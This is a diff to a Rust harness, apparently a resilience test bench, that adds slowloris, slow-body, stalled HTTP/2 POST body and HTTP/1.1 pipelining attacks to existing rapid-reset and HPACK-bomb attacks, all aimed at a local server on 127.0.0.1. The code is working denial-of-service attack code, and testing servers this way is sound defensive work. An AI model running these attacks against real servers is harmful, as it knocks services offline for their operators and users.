@@ -35,6 +35,10 @@
 //! | `cancelled-streams` | 200 | one request (`/slow/10000`), RST_STREAM(CANCEL) after 100 ms, then only PING and SETTINGS acknowledgements |
 //! | `websocket` | 300 | an HTTP/1.1 WebSocket upgrade (`/ws/N`), then silence; the port is the HTTP/1.1 one |
 //! | `upstream-multiplication` | 8 | 125 streams of `/slow/3000` each, topped up to 125 every second |
+//! | `stalled-bodies` | 8 | 125 `POST /` streams each declaring a 1,000-byte body and sending none of it, topped up to 125 every second |
+//! | `slowloris` | 300 | HTTP/1.1: a request head begun, then one more header line every second, never ended; the port is the HTTP/1.1 one |
+//! | `slow-body` | 300 | HTTP/1.1: `POST /` declaring a 1,000-byte body, then one byte of it every second; the HTTP/1.1 port |
+//! | `pipelining` | 75 | HTTP/1.1: `GET /slow/10000`, then 1 MiB of pipelined `GET /` behind it, as far as the server reads; the HTTP/1.1 port |
 //!
 //! Output, on stdout, when the attack ends: a line `summary KEY=VALUE ...` (connections,
 //! refused, streams, bytes, the attacker's own CPU time `cpu_ticks` in clock ticks, and
@@ -242,6 +246,19 @@ fn request_block(path: &str) -> Vec<u8> {
     hpack_str(&mut b, b"127.0.0.1");
     hpack_int(&mut b, 0x00, 4, 4);
     hpack_str(&mut b, path.as_bytes());
+    b
+}
+
+/// The header block of `POST path` on `http://127.0.0.1` declaring a body of `length` bytes:
+/// `:method POST` (static entry 3) indexed, `content-length` (static entry 28) as a literal.
+fn post_block(path: &str, length: u64) -> Vec<u8> {
+    let mut b = vec![0x83, 0x86];
+    hpack_int(&mut b, 0x00, 4, 1);
+    hpack_str(&mut b, b"127.0.0.1");
+    hpack_int(&mut b, 0x00, 4, 4);
+    hpack_str(&mut b, path.as_bytes());
+    hpack_int(&mut b, 0x00, 4, 28);
+    hpack_str(&mut b, length.to_string().as_bytes());
     b
 }
 
@@ -585,14 +602,16 @@ impl Conn {
 
     /// Opens `count` streams of `block` (a request without body) at once.
     async fn requests(&mut self, block: &[u8], count: u32) -> bool {
+        self.requests_with(block, count, END_STREAM | END_HEADERS)
+            .await
+    }
+
+    /// Opens `count` streams of `block` at once, their HEADERS with `flags` (without
+    /// END_STREAM: each request's body is still to come).
+    async fn requests_with(&mut self, block: &[u8], count: u32, flags: u8) -> bool {
         let mut batch = Vec::new();
         for n in 0..count {
-            batch.extend(frame(
-                HEADERS,
-                END_STREAM | END_HEADERS,
-                self.next_id + 2 * n,
-                block,
-            ));
+            batch.extend(frame(HEADERS, flags, self.next_id + 2 * n, block));
         }
         let sent = self.send(&batch).await;
         if sent {
@@ -763,16 +782,37 @@ async fn hpack_bomb(port: u16, deadline: Instant) {
 /// Holds `per` streams of `path` open on one connection, opening new ones every second in
 /// place of those the server has ended.
 async fn hold_streams(port: u16, deadline: Instant, settings: &[(u16, u32)], per: u64, path: &str) {
+    let block = request_block(path);
+    hold_blocks(
+        port,
+        deadline,
+        settings,
+        per,
+        &block,
+        END_STREAM | END_HEADERS,
+    )
+    .await;
+}
+
+/// Holds `per` streams of `block` (HEADERS with `flags`) open on one connection, opening new
+/// ones every second in place of those the server has ended.
+async fn hold_blocks(
+    port: u16,
+    deadline: Instant,
+    settings: &[(u16, u32)],
+    per: u64,
+    block: &[u8],
+    flags: u8,
+) {
     let Some(h) = connect(port, settings, deadline).await else {
         return;
     };
     let mut c = h.watch(deadline);
-    let block = request_block(path);
     while c.going() {
         let ended = lock(&c.seen).ended_streams;
         let open = c.streams.saturating_sub(ended);
         let missing = u32::try_from(per.saturating_sub(open)).unwrap_or(0);
-        if missing > 0 && !c.requests(&block, missing).await {
+        if missing > 0 && !c.requests_with(block, missing, flags).await {
             break;
         }
         c.wait(Duration::from_secs(1)).await;
@@ -884,6 +924,79 @@ async fn websocket(port: u16, deadline: Instant, n: usize) {
     }
 }
 
+/// An HTTP/1.1 connection that writes `first` (as far as the server reads it), then `then`
+/// every `every` while `then` is not empty, reading what the server answers, until the server
+/// closes it or the attack stops; counted by the status of its first answer (`0`: none).
+async fn h1_trickle(
+    port: u16,
+    deadline: Instant,
+    first: Arc<Vec<u8>>,
+    then: &'static [u8],
+    every: Duration,
+) {
+    let Ok(Ok(mut tcp)) = tokio::time::timeout(
+        Duration::from_secs(3),
+        TcpStream::connect(("127.0.0.1", port)),
+    )
+    .await
+    else {
+        tally().connect_failed += 1;
+        pause(Duration::from_millis(100), deadline).await;
+        return;
+    };
+    let opened = Instant::now();
+    let mut written = 0u64;
+    let mut closed = match write_until(&mut tcp, &first, deadline).await {
+        Wrote::All => {
+            written += first.len() as u64;
+            false
+        }
+        Wrote::Failed => true,
+        Wrote::Stopped => false,
+    };
+    let mut status = 0u16;
+    let mut buf = [0u8; 4096];
+    let mut next = Instant::now() + every;
+    while !closed && !stopping(deadline) {
+        match tokio::time::timeout(Duration::from_millis(50), tcp.read(&mut buf)).await {
+            Ok(Ok(0)) | Ok(Err(_)) => closed = true,
+            Ok(Ok(n)) => {
+                if status == 0 {
+                    status = String::from_utf8_lossy(&buf[..n])
+                        .split_whitespace()
+                        .nth(1)
+                        .and_then(|s| s.parse().ok())
+                        .unwrap_or(0);
+                }
+            }
+            Err(_) => {}
+        }
+        if !closed && !then.is_empty() && Instant::now() >= next {
+            match write_until(&mut tcp, then, deadline).await {
+                Wrote::All => written += then.len() as u64,
+                Wrote::Failed => closed = true,
+                Wrote::Stopped => {}
+            }
+            next += every;
+        }
+    }
+    {
+        let mut t = tally();
+        t.connections += 1;
+        t.streams += 1;
+        t.bytes += written;
+        *t.statuses.entry(status).or_default() += 1;
+        if closed {
+            t.closed.push(opened.elapsed());
+        } else {
+            t.open += 1;
+        }
+    }
+    if closed {
+        pause(Duration::from_millis(100), deadline).await;
+    }
+}
+
 /// Runs `one` on `n` connections at once, started `stagger` apart, each begun again when it
 /// ends, until the attack stops.
 async fn slots<F, Fut>(n: usize, stagger: Duration, deadline: Instant, one: F)
@@ -909,7 +1022,7 @@ where
     }
 }
 
-const ATTACKS: [&str; 12] = [
+const ATTACKS: [&str; 16] = [
     "batched-rapid-reset",
     "paced-rapid-reset",
     "made-you-reset",
@@ -922,6 +1035,10 @@ const ATTACKS: [&str; 12] = [
     "cancelled-streams",
     "websocket",
     "upstream-multiplication",
+    "stalled-bodies",
+    "slowloris",
+    "slow-body",
+    "pipelining",
 ];
 
 async fn attack(name: &str, port: u16, deadline: Instant) {
@@ -984,6 +1101,60 @@ async fn attack(name: &str, port: u16, deadline: Instant) {
             })
             .await
         }
+        "stalled-bodies" => {
+            let block = post_block("/", 1000);
+            slots(8, Duration::from_millis(20), deadline, move |_| {
+                let block = block.clone();
+                async move { hold_blocks(port, deadline, &[], 125, &block, END_HEADERS).await }
+            })
+            .await
+        }
+        "slowloris" => {
+            let first = Arc::new(b"GET / HTTP/1.1\r\nhost: 127.0.0.1\r\n".to_vec());
+            slots(300, Duration::from_millis(2), deadline, move |_| {
+                h1_trickle(
+                    port,
+                    deadline,
+                    Arc::clone(&first),
+                    b"x-a: b\r\n",
+                    Duration::from_secs(1),
+                )
+            })
+            .await
+        }
+        "slow-body" => {
+            let first = Arc::new(
+                b"POST / HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-length: 1000\r\n\r\n".to_vec(),
+            );
+            slots(300, Duration::from_millis(2), deadline, move |_| {
+                h1_trickle(
+                    port,
+                    deadline,
+                    Arc::clone(&first),
+                    b"x",
+                    Duration::from_secs(1),
+                )
+            })
+            .await
+        }
+        "pipelining" => {
+            let mut bytes = b"GET /slow/10000 HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n".to_vec();
+            let one = b"GET / HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n";
+            while bytes.len() < 1 << 20 {
+                bytes.extend_from_slice(one);
+            }
+            let first = Arc::new(bytes);
+            slots(75, Duration::from_millis(10), deadline, move |_| {
+                h1_trickle(
+                    port,
+                    deadline,
+                    Arc::clone(&first),
+                    b"",
+                    Duration::from_secs(1),
+                )
+            })
+            .await
+        }
         other => unreachable!("unknown attack {other}"),
     }
 }
@@ -1004,6 +1175,11 @@ fn human(d: Duration) -> String {
     }
 }
 
+/// Whether the attack speaks HTTP/1.1 (to the HTTP/1.1 port).
+fn http1(name: &str) -> bool {
+    matches!(name, "websocket" | "slowloris" | "slow-body" | "pipelining")
+}
+
 /// What the server did, in a few words with the counts.
 fn outcome(t: &Tally, name: &str) -> String {
     let mut ends = Vec::new();
@@ -1018,11 +1194,7 @@ fn outcome(t: &Tally, name: &str) -> String {
     if !t.closed.is_empty() {
         ends.push(format!(
             "closed{} ×{} (after {})",
-            if name == "websocket" {
-                ""
-            } else {
-                " without GOAWAY"
-            },
+            if http1(name) { "" } else { " without GOAWAY" },
             t.closed.len(),
             human(median(&t.closed))
         ));
@@ -1039,7 +1211,7 @@ fn outcome(t: &Tally, name: &str) -> String {
     if t.connect_failed > 0 {
         ends.push(format!("connect failed ×{}", t.connect_failed));
     }
-    if name == "websocket" {
+    if http1(name) {
         ends.retain(|e| !e.starts_with("closed or unanswered"));
         if t.refused > 0 {
             ends.push(format!(
@@ -1070,10 +1242,10 @@ fn outcome(t: &Tally, name: &str) -> String {
         "{} connections, {} {} written: {}",
         t.connections,
         t.streams,
-        if name == "websocket" {
-            "upgrades"
-        } else {
-            "streams"
+        match name {
+            "websocket" => "upgrades",
+            name if http1(name) => "requests",
+            _ => "streams",
         },
         if ends.is_empty() {
             "none ended".to_owned()
